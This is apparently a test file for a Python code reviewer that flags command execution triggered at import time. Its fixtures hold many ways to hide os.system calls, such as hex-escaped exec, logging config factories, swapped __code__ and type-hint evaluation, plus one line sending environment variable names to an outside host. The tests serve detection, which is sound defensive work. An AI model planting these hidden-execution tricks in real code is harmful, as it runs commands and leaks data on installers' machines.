import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { reviewPython } from '#handler/review/review-python.js';

const kinds = (source: string): string[] => reviewPython(source).map(({ kind }) => kind);
const OS = 'import os\n';

for (const [what, source] of [
  [
    'a visitor of syntax trees',
    `${OS}import ast\nclass V(ast.NodeVisitor):\n    def visit_Name(self, n): os.system(n.id)\nV().visit(ast.parse("id"))\n`,
  ],
  [
    'a constant that is missing',
    `${OS}import enum\nclass E(enum.Enum):\n    A = 1\n    def _missing_(cls, v): os.system(v)\nE("id")\n`,
  ],
  ['a reader of HTML', `${OS}class P(HTMLParser):\n    def handle_data(self, d): os.system(d)\nP().feed("id")\n`],
  [
    'a handler of a log',
    `${OS}class H(logging.Handler):\n    def emit(self, r): os.system(r.msg)\nlog.addHandler(H())\n`,
  ],
  ['a thread', `${OS}class T(Thread):\n    def run(self): os.system("id")\nT().start()\n`],
  ['a table of lambdas that is handed on', `${OS}type("T", (), {"__call__": lambda s, c: os.system(c)})()("id")\n`],
  ['code that is put into a function', `${OS}def g(): os.system("id")\nf.__code__ = g.__code__\nf()\n`],
  [
    'a text of escapes',
    `exec('${[...'import os\nos.system("id")'].map((one) => `\\x${one.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}')\n`,
  ],
  ['the type of a parameter as a text', `def f(x: "__import__('os').system('id')"): pass\nget_type_hints(f)\n`],
  ['a query of pandas', `frame.query("@pd.io.common.os.system('id') == a")\nimport os.path\n`],
  [
    'a table for logs',
    `import logging.config\nlogging.config.dictConfig({"f": {"()": "os.system", "command": "id"}})\n`,
  ],
  ['the module of a built-in function', `print.__self__.__dict__["__imp" + "ort__"]("os").listdir("/")\n`],
  ['a connection to a command', `import imaplib\nimaplib.IMAP4_stream("id")\n`],
  [
    'a browser that is a program',
    `import webbrowser\nwebbrowser.register("z", None, webbrowser.GenericBrowser(["id"]))\n`,
  ],
  [
    'the environment as a sorted text',
    `${OS}import http.client\nhttp.client.HTTPConnection("a.b").request("GET", "".join(sorted(os.environ)))\n`,
  ],
] as const)
  test(`what runs while it is imported is an attack: ${what}`, () => {
    assert.ok(kinds(source).includes('attack'));
  });

test('the same that nothing makes, or under a name of its own, is none', () => {
  for (const source of [
    `${OS}import ast\nclass V(ast.NodeVisitor):\n    def visit_Name(self, n): os.system(n.id)\n`,
    `${OS}class V:\n    def visit_Name(self, n): os.system(n.id)\nservice = V()\n`,
    `${OS}class T(Thread):\n    def transcode(self): os.system("ffmpeg")\nT().start()\n`,
    'import os\nHELP = "use subprocess.run, not os.system"\n',
    'def f():\n    "os.system(\'id\')"\n    import os\n',
    'import logging.config\nlogging.config.dictConfig({"h": {"class": "logging.StreamHandler", "stream": "ext://sys.stdout"}})\n',
    'f.__code__ == g.__code__\nimport os\n',
  ])
    assert.not.ok(kinds(source).includes('attack'), source);
});

test.run();
